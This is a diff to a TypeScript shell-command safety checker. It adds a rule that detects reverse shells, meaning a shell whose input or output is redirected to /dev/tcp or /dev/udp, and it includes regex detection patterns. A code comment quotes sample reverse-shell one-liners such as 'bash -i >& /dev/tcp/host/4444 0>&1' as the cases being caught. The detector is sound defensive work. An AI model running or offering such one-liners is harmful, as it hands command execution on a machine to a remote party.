@@ -5,12 +5,25 @@ import { commandOutput } from '../static-output'
 import { DYN, type ExecContext, type Finding, type SimpleCommand } from '../types'
 import { rateCronTable } from './system'
 
+const SHELL_NAME = /(^|\/)(sh|bash|zsh|dash|ksh|mksh|ash)$/
+const NET_DEVICE_PATH = /^\/dev\/(tcp|udp)\//
 const WRITE_OPS = new Set(['>', '>>', '>|', '&>', '&>>', '<>', '>&'])
 
 /** Findings for output redirections: writing to disks, system files, or overwriting files. */
 export function redirectFindings(cmd: SimpleCommand, ctx: ExecContext): Finding[] {
   const out: Finding[] = []
+  const shell = SHELL_NAME.test(cmd.words[0]?.value ?? '')
   for (const r of cmd.redirects) {
+    if (shell && r.target && NET_DEVICE_PATH.test(r.target.value)) {
+      // `bash -i >& /dev/tcp/host/4444 0>&1`, `sh < /dev/tcp/host/80`.
+      out.push({
+        ruleId: 'net.reverse-shell',
+        risk: 'critical',
+        message: `Reverse shell: the shell talks to ${r.target.value.replaceAll(DYN, '$VAR')}, so whoever is there runs commands here`,
+        span: r.span,
+      })
+      continue
+    }
     if (!WRITE_OPS.has(r.op) || !r.target) continue
     const value = r.target.value
     // `2>&1`, `>&2`: duplicating a descriptor writes nothing new.
